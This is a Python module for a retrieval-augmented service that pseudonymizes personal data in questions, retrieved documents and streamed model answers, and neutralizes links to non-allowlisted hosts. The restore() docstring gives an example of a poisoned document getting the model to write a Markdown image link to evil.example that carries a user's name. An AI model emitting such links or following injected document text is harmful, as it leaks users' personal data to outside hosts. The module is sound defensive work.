"""One request's PII filtering: the question on the way in, context and answer on the way out.

A :class:`PiiSession` lives for one request, so a pseudonym (``<PERSON_1>``) means the same
value everywhere in it, and the caller's own values can be restored in the answer returned to
that caller. Streams pass through :class:`StreamFilter`, which holds back a window of text so
that no unfiltered character leaves even when an entity straddles two deltas.

Counts per stage and entity type are kept for the response, the ledger and the metrics;
values never are.
"""

from __future__ import annotations

import json
import logging
import re
import time
from collections import Counter
from typing import Literal
from urllib.parse import urlsplit

from core.config import PiiSettings
from core.errors import PiiBlocked, PiiUnavailable
from core.pii import NER_ENTITIES, PiiEngine, PiiSpan, mask, policy_spans, replace_spans

log = logging.getLogger(__name__)
transcript_log = logging.getLogger("ragops.transcript")  # opt-in (RAGOPS_LOG_TEXT), filtered text only

Stage = Literal["question", "context", "answer"]
# The shape of the placeholders this filter writes. Only those a session issued itself are exempt
# from detection ("<NL81RABO8288072902>" is shaped like one and is still an IBAN); any is never cut
# in two by a stream.
PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*?(?:_\d+)?>")
_OPEN_PLACEHOLDER = re.compile(r"<[A-Z0-9_]*$")
# Markdown links and images, reference definitions and HTML tags with attributes: where a restored
# value or a link to an outside host would leave the page (an image loads without a click).
_MD_LINK = re.compile(r"(!?)\[([^\]\n]*)\]\(\s*([^\s)]*)(?:\s+[\"'(][^)\n]*)?\)")
_MD_DEFINITION = re.compile(r"^([ \t]*\[[^\]\n]+\]:[ \t]*)<?(\S+?)>?([ \t].*)?$", re.M)
_HTML_TAG = re.compile(r"<[A-Za-z][A-Za-z0-9-]*\s[^>]*>")
# An unfinished link, definition or tag at the end of streamed text: held back until it closes.
_OPEN_LINK = re.compile(r"(?:!?\[[^\]\n]*(?:\]\([^)\n]*)?|^[ \t]*\[[^\]\n]+\]:[^\n]*|<[A-Za-z][^<>\n]*)$", re.M)
_OPEN_LINK_MAX_CHARS = 2000  # past this, a "[" is not a link being written: let the text go
_URL_WORD = re.compile(r"://|www\.|[/=?&#%@]|\]\(")
# Text already let out that is analyzed again with the next piece, for the NER model's context.
_LEFT_CONTEXT_CHARS = 120


def without_placeholders(text: str) -> str:
    """Text for matching (embeddings, sentence scoring): placeholders carry no meaning there."""
    return " ".join(PLACEHOLDER.sub(" ", text).split()) if "<" in text else text


class PiiSession:
    """The PII filter of one request (a no-op when the policy is off or the engine absent)."""

    def __init__(self, engine: PiiEngine | None, policy: PiiSettings) -> None:
        self.engine = engine if policy.enabled else None
        self.policy = policy
        self.counts: dict[str, Counter[str]] = {}
        self.failures = 0
        self.elapsed_ms = 0.0  # time spent analyzing, all stages
        self._pseudonyms: dict[tuple[str, str], str] = {}  # (type, value) -> <TYPE_n>
        self._issued: set[str] = set()  # placeholders this session wrote: the only ones exempt from detection
        self._context: dict[tuple[str, bool], str] = {}  # retrieved text -> filtered (titles repeat across hits)
        # Raw spans of retrieved text: read from storage before filtering (``stored``), and those this
        # session had to analyze itself (``found``), for the caller to store.
        self.analysis = policy.analysis()
        self.also_allowed: frozenset[str] = frozenset()  # the collection's learned own names
        self.stored: dict[str, list[PiiSpan]] = {}
        self.found: dict[str, list[PiiSpan]] = {}
        self._originals: dict[str, str] = {}  # <TYPE_n> -> the caller's value
        self._per_type: Counter[str] = Counter()
        # Filtered text as it went on (answer pseudonyms not restored), for the opt-in transcript log.
        self._filtered: dict[Stage, list[str]] = {"question": [], "answer": []}
        self._passed_unfiltered = False

    @property
    def active(self) -> bool:
        """Whether anything is filtered at all."""
        return self.engine is not None

    def applies(self, stage: Stage) -> bool:
        """Whether the policy filters this stage."""
        if not self.active:
            return False
        setting = getattr(self.policy.apply_to, stage)
        return setting != "off" if stage == "context" else bool(setting)

    def report(self) -> dict[str, dict[str, int]]:
        """Entities filtered, per stage and type (no values)."""
        return {stage: dict(sorted(c.items())) for stage, c in self.counts.items() if c}

    def filter_question(self, text: str) -> str:
        """Filter caller input; raises :class:`PiiBlocked` naming the blocked types found."""
        return self._filter(text, "question")

    def filter_context(self, text: str, *, prose: bool = True) -> str:
        """Filter retrieved text (a chunk, a title, a source) before the prompt and citations (``block`` redacts).

        ``apply_to.context: sensitive`` leaves pseudonymized types (names) in documents as they are.
        Spans come from ``stored`` (analyzed at ingest) when they are there; text analyzed here is
        kept in ``found`` so that it is analyzed once, not per query.
        ``prose=False`` (file names, paths) keeps only pattern types: the NER model reads path parts
        as names ("engineering/vulnerability_disclosure.html" became "engineering/<PERSON_1>").
        """
        if not self.applies("context") or not text.strip():
            return text
        if (text, prose) in self._context:
            return self._context[text, prose]
        spans = self._analyze(text, document=True)
        if spans is None:
            return text
        if self.policy.apply_to.context == "sensitive":
            spans = [s for s in spans if self.policy.entities.get(s.entity_type) != "pseudonymize"]
        if not prose:
            spans = [s for s in spans if s.entity_type not in NER_ENTITIES]
        self._count("context", spans)
        self._context[text, prose] = filtered = self._replace(text, spans, caller=False)
        return filtered

    def _filter(self, text: str, stage: Stage) -> str:
        if not self.applies(stage):
            return text
        spans = self._analyze(text)
        if spans is None:
            return text
        self._count(stage, spans)
        caller = stage == "question"  # only what the caller sent may be blocked or given back
        blocked = sorted({s.entity_type for s in spans if self.policy.entities.get(s.entity_type) == "block"})
        if caller and blocked:
            raise PiiBlocked(blocked, self.report())
        filtered = self._replace(text, spans, caller=caller)
        if stage == "question":
            self._filtered["question"].append(filtered)
        return filtered

    def filter_answer(self, text: str) -> str:
        """Filter a whole model output, then give the caller back their own pseudonymized values."""
        if not self.applies("answer"):
            return text
        spans = self.answer_spans(text)
        return text if spans is None else self.redact_answer(text, spans)

    def answer_spans(self, text: str) -> list[PiiSpan] | None:
        """Entities in model output (None: the filter failed and the policy lets text pass)."""
        return self._analyze(text)

    def redact_answer(self, text: str, spans: list[PiiSpan], *, before: str = "") -> str:
        """Apply spans found by :meth:`answer_spans` to (a prefix of) the analyzed text; count them.

        Links to hosts outside ``link_hosts`` become text; ``before`` is the answer so far, so that a
        pseudonym inside a link or tag that began in an earlier piece is not restored either.
        """
        self._count("answer", spans)
        filtered = neutralize_links(self._replace(text, spans, caller=False), self.policy.link_hosts)
        self._filtered["answer"].append(filtered)
        return self.restore(filtered, before=before)

    def filtered_transcript(self) -> dict[str, str] | None:
        """The question (with history) and answer as filtered, pseudonyms kept; None unless both were filtered."""
        if not (self.applies("question") and self.applies("answer")) or self._passed_unfiltered:
            return None
        return {"question": "\n".join(self._filtered["question"]), "answer": "".join(self._filtered["answer"])}

    def restore(self, text: str, *, before: str = "") -> str:
        """Pseudonyms of the caller's own values back to the values, when the policy allows.

        Never inside a URL, a link target or an HTML tag: a poisoned document could have the model
        write ``![x](https://evil.example/?u=<PERSON_1>)`` and the caller's client would send the name.
        """
        if not self.policy.restore_pseudonyms or not self._originals:
            return text

        def back(m: re.Match[str]) -> str:
            original = self._originals.get(m.group(0))
            if original is None or in_link(before + text[: m.start()], text[m.end() :]):
                return m.group(0)
            return original

        return PLACEHOLDER.sub(back, text)

    def stream(self, *, incremental: bool = True) -> StreamFilter:
        """A filter for generated deltas (``incremental=False``: filter once, at the end)."""
        return StreamFilter(self, incremental=incremental and self.applies("answer"))

    def _analyze(self, text: str, *, document: bool = False) -> list[PiiSpan] | None:
        """The policy's spans outside the placeholders this session issued; None when the filter failed and may pass.

        ``document``: retrieved text, whose raw spans may be stored (see :attr:`stored`).
        """
        assert self.engine is not None
        started = time.perf_counter()
        try:
            raw = self.stored.get(text) if document else None
            if raw is None:
                raw = self.engine.analyze_raw(text, self.policy)
                if document:
                    self.found[text] = raw
            spans = policy_spans(raw, text, self.policy, self.also_allowed)
        except PiiUnavailable:
            self.failures += 1
            if self.policy.on_error == "fail":
                raise
            self._passed_unfiltered = True
            log.warning("PII filter failed; text passed unfiltered because pii.on_error is 'pass'")
            return None
        finally:
            self.elapsed_ms += (time.perf_counter() - started) * 1000
        # Exempt: a span inside a placeholder this session wrote, matched exactly. A look-alike
        # ("<AKIAIOSFODNN7EXAMPLE>") is someone else's text and is filtered like any other.
        issued = [(m.start(), m.end()) for m in PLACEHOLDER.finditer(text) if m.group(0) in self._issued]
        return [s for s in spans if not any(start <= s.start and s.end <= end for start, end in issued)]

    def _count(self, stage: Stage, spans: list[PiiSpan]) -> None:
        counter = self.counts.setdefault(stage, Counter())
        counter.update(s.entity_type for s in spans)

    def _replace(self, text: str, spans: list[PiiSpan], *, caller: bool) -> str:
        def replacement(entity_type: str, value: str) -> str:
            action = self.policy.entities.get(entity_type, "redact")
            if action == "mask":
                return mask(value)
            if action == "pseudonymize":
                return self._pseudonym(entity_type, value, caller=caller)
            self._issued.add(f"<{entity_type}>")
            return f"<{entity_type}>"

        return replace_spans(text, spans, replacement)

    def _pseudonym(self, entity_type: str, value: str, *, caller: bool) -> str:
        key = (entity_type, value.strip().casefold())
        placeholder = self._pseudonyms.get(key)
        if placeholder is None:
            self._per_type[entity_type] += 1
            placeholder = f"<{entity_type}_{self._per_type[entity_type]}>"
            self._pseudonyms[key] = placeholder
            self._issued.add(placeholder)
        if caller:  # only what the caller sent may be given back to the caller
            self._originals.setdefault(placeholder, value)
        return placeholder


def in_link(before: str, after: str) -> bool:
    """Whether text between ``before`` and ``after`` sits in a URL, a Markdown link target or an HTML tag."""
    word = re.split(r"\s", before)[-1] + re.split(r"\s", after, maxsplit=1)[0]
    if _URL_WORD.search(word):
        return True
    tail = before[-_OPEN_LINK_MAX_CHARS:]
    return re.search(r"\]\([^)\n]*$|<[A-Za-z][^<>]*$", tail) is not None


def host_allowed(target: str, hosts: list[str]) -> bool:
    """Whether a link target stays on the page (relative) or goes to an allowed host (or its subdomain)."""
    try:
        parts = urlsplit(target.strip())
    except ValueError:
        return False
    if not parts.scheme and not target.strip().startswith("//"):
        return not parts.netloc  # a relative link or an anchor
    if parts.scheme not in ("http", "https", ""):
        return False  # javascript:, data:, mailto: ... never from generated text
    host = (parts.hostname or "").lower().rstrip(".")
    return any(host == h.lower() or host.endswith("." + h.lower()) for h in hosts)


def neutralize_links(text: str, hosts: list[str]) -> str:
    """Markdown links and images to hosts outside ``hosts`` as plain text; HTML tags with attributes escaped."""
    if "](" in text:

        def link(m: re.Match[str]) -> str:
            image, label, target = m.groups()
            if host_allowed(target, hosts):
                return m.group(0)
            shown = target.replace("`", "")
            return f"{label} (image not shown: `{shown}`)" if image else f"{label} (`{shown}`)"

        text = _MD_LINK.sub(link, text)
    if "]:" in text:

        def definition(m: re.Match[str]) -> str:
            target = m.group(2)
            return m.group(0) if host_allowed(target, hosts) else f"{m.group(1)}`{target.replace('`', '')}`"

        text = _MD_DEFINITION.sub(definition, text)
    if "<" in text:
        text = _HTML_TAG.sub(lambda m: "&lt;" + m.group(0)[1:], text)
    return text


def log_transcript(request_id: str, config: str, session: PiiSession) -> None:
    """Opt-in (``RAGOPS_LOG_TEXT``): one request's filtered question and answer, for debugging answers."""
    transcript = session.filtered_transcript()
    if transcript is None:
        transcript_log.info("request %s: text not logged; configuration %r does not filter question and answer",
                            request_id, config)  # fmt: skip
        return
    transcript_log.info("request %s config %s question=%s answer=%s", request_id, config,
                        json.dumps(transcript["question"]), json.dumps(transcript["answer"]))  # fmt: skip


class StreamFilter:
    """Filters streamed text: releases only what can no longer be part of an unseen entity.

    After each delta, everything but the last ``window`` characters is analyzed (with some
    already-released text before it as context) and released, cut at a word boundary and never
    inside a detected entity or a placeholder. An entity still being written ends inside the
    held-back window as long as the window is longer than the entity, so it is seen whole later.
    """

    def __init__(self, session: PiiSession, *, incremental: bool = True) -> None:
        self.session = session
        self.incremental = incremental
        self.window = session.policy.stream_window_chars
        self._pending = ""
        self._released = ""  # raw text already let out, kept short: context for the next analysis

    def feed(self, delta: str) -> str:
        """Take a delta; return the text that may be sent now (often empty)."""
        if not self.session.applies("answer"):
            return delta
        self._pending += delta
        # The first text goes as soon as a word clears the window (time to first text); after that,
        # analyze once at least half a window of new text can go: fewer analyses, a little more latency.
        batch = self.window // 2 if self._released else 1
        if not self.incremental or len(self._pending) < self.window + batch:
            return ""
        cut = self._cut_point(len(self._pending) - self.window)
        if cut <= 0:
            return ""
        return self._release(cut)

    def flush(self) -> str:
        """The end of the stream: filter and return whatever is held back."""
        if not self.session.applies("answer"):
            return ""
        return self._release(len(self._pending)) if self._pending else ""

    def _cut_point(self, limit: int) -> int:
        text = self._pending
        cut = max(text.rfind(" ", 0, limit), text.rfind("\n", 0, limit)) + 1  # after a whitespace
        opened = _OPEN_PLACEHOLDER.search(text, 0, cut)
        if opened is not None:
            cut = opened.start()
        # A link, definition or tag is released whole, so it can be checked against link_hosts.
        link = _OPEN_LINK.search(text, max(0, cut - _OPEN_LINK_MAX_CHARS), cut)
        if link is not None:
            cut = link.start()
        return cut

    def _release(self, cut: int) -> str:
        # Analyze everything pending (plus released context), so an entity crossing the cut is seen whole.
        context = self._released[-_LEFT_CONTEXT_CHARS:]
        found = self.session.answer_spans(context + self._pending)
        offset = len(context)
        spans = [
            PiiSpan(s.entity_type, max(s.start - offset, 0), s.end - offset, s.score)
            for s in (found or [])
            if s.end > offset
        ]
        straddling = [s.start for s in spans if s.start < cut < s.end]
        if straddling:
            cut = min(straddling)
        piece = self._pending[:cut]
        before = self._released
        if found is not None:
            released = self.session.redact_answer(piece, [s for s in spans if s.end <= cut], before=before)
        else:
            released = piece
        self._released = (self._released + piece)[-_LEFT_CONTEXT_CHARS:]
        self._pending = self._pending[cut:]
        return released
